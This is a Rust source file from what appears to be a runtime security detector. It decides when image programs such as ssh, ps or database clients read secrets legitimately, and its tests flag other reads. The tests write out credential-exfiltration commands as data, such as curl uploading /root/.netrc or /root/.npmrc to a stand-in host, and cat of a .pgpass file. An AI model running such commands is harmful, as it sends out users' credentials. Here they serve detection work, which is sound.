//! Programs of the image that exist to read secrets: they check logins, use keys, list processes.

use bstr::ByteSlice as _;

use crate::catalog::secrets;
use crate::detect::{attribution, program_roles};
use crate::event::{Bytes, Origin};
use crate::state::ProcessEntry;

/// Whether the image's program exists to read this secret.
pub(super) fn is_for_reading(process: &ProcessEntry, path: &[u8]) -> bool {
    if process.file.origin() != Origin::Image {
        return false;
    }
    let name = program_roles::of(process);
    if attribution::checks_logins(name) || is_client(process, name, path) {
        return true;
    }
    match name {
        // The client proves its identity with a key; the key is not sent.
        b"ssh" | b"ssh-add" | b"ssh-keygen" | b"ssh-agent" | b"ssh-keysign" => {
            path.find(b"/.ssh/").is_some() || path.starts_with(b"/etc/ssh/")
        }
        // They list all processes, and print environments only with an option.
        b"ps" | b"top" | b"htop" | b"pgrep" | b"pkill" | b"pidof" | b"killall" | b"w"
        | b"uptime" | b"free" | b"vmstat" | b"lsof" | b"fuser" | b"pstree" | b"pwdx" => {
            path.ends_with(b"/environ") && !process.argv.iter().skip(1).any(asks_environment)
        }
        _ => false,
    }
}

/// A client reads the credentials that it keeps; not a file that is given as data: `curl -T .netrc`.
fn is_client(process: &ProcessEntry, name: &[u8], path: &[u8]) -> bool {
    let script = process.script.as_ref().map(|script| script.as_bytes());
    let script = script.or_else(|| program_roles::script_argument(&process.argv));
    let installed = |script: &&[u8]| script.starts_with(b"/usr/") || script.starts_with(b"/opt/");
    let programs = [
        Some(name),
        script.filter(installed).map(program_roles::leaf),
    ];
    let file = program_roles::leaf(path);
    let given = process
        .argv
        .iter()
        .skip(1)
        .any(|word| word.find(file).is_some());
    let mut programs = programs.into_iter().flatten();
    !given && programs.any(|program| secrets::keeps_credentials_in(path, program))
}

/// `ps eww`, `ps auxe`: letters without a dash, an `e` among them.
fn asks_environment(argument: &Bytes) -> bool {
    let argument = argument.as_bytes();
    let letters = argument.iter().all(u8::is_ascii_alphabetic);
    argument.find(b"environ").is_some() || (letters && argument.contains(&b'e'))
}

#[cfg(test)]
mod tests {
    use crate::detect::Severity;
    use crate::detect::testkit::World;
    use crate::event::FileOp;

    #[test]
    fn a_client_reads_its_own_credentials() {
        let read = |exe: &str, argv: &[&str], path: &str| {
            let mut w = World::steady();
            let s = w.session(&["sh"]);
            let p = w.exec(s, exe, argv);
            w.file(p, FileOp::Read, path);
            w.all("file.credential-read").first().map(|f| f.severity)
        };
        let (pgpass, npmrc) = ("/root/.pgpass", "/root/.npmrc");
        let npm = "/usr/share/nodejs/npm/bin/npm-cli.js";
        for (exe, argv, path) in [
            ("/usr/bin/pg_dump", &["pg_dump", "app"][..], pgpass),
            ("/usr/bin/node", &["node", npm, "run", "migrate"], npmrc),
            (
                "/usr/bin/python3",
                &["python3", "/usr/bin/aws", "s3", "ls"],
                "/root/.aws/credentials",
            ),
            (
                "/usr/bin/curl",
                &["curl", "-n", "http://x/"],
                "/root/.netrc",
            ),
        ] {
            assert_eq!(read(exe, argv, path), None, "{argv:?}");
        }
        for (exe, argv, path) in [
            (
                "/usr/bin/curl",
                &["curl", "-T", "/root/.netrc", "http://x/"][..],
                "/root/.netrc",
            ),
            (
                "/usr/bin/curl",
                &["curl", "-F", "f=@/root/.npmrc", "http://x/"],
                npmrc,
            ),
            (
                "/usr/bin/python3",
                &["python3", "/tmp/aws"],
                "/root/.aws/credentials",
            ),
            ("/bin/cat", &["cat", pgpass], pgpass),
        ] {
            assert_eq!(read(exe, argv, path), Some(Severity::High), "{argv:?}");
        }
    }
}
